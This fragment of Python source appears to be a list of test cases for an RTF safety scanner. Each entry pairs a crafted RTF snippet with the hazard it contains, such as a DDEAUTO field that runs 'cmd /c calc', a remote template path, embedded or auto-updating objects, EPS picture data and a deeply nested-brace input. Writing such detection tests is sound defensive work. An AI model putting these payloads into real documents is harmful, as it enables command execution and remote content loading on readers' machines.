    (b"{\\field{\\*\\fldinst \\uc9\\u73 F zzzzzzNCLUDETEXT x}}", "fldinst"),
    (b"{\\object\\objemb{\\*\\objdata 0105}}", "object"),
    (b"{\\*\\template \\\\\\\\x\\\\a.dot}", "template"),
    (b"{\\pict\\wmetafile8 " + EPS.hex().encode() + b"}", "PostScript"),
    (b"{\\pict\\wmetafile8\\bin%d " % len(EPS) + EPS + b"}", "PostScript"),
    (b"{\\pict\\macpict 00}", "macpict"),
    (b"{\\shp{\\*\\shpinst{\\sp{\\sn pibName}{\\sv http://x.invalid/a}}}}", "pibName"),
    (b"{\\subdocument1}", "subdocument"),
    (b"{\\field{\\*\\fldinst DDEAUTO cmd /c calc}{\\fldrslt x}}", "DDEAUTO"),
    (
        b"{\\*\\background{\\shp{\\*\\shpinst{\\sp{\\sn fillBlip}{\\sv {\\pict\\pngblip "
        + EPS.hex().encode()
        + b"}}}}}}",
        "PostScript",
    ),
    (b"{\\*\\mailmerge{\\*\\mmconnectstr DSN=x}}", "mailmerge"),
    (b"{\\object\\objautlink\\objupdate{\\*\\objclass htmlfile}{\\*\\objdata 01}}", "object"),
    (b"{\\footnote {\\field{\\*\\fldinst IMPORT x}{\\fldrslt x}}}", "IMPORT"),
    (b"{" * 400, "ใหญ่เกินกำหนด"),
]
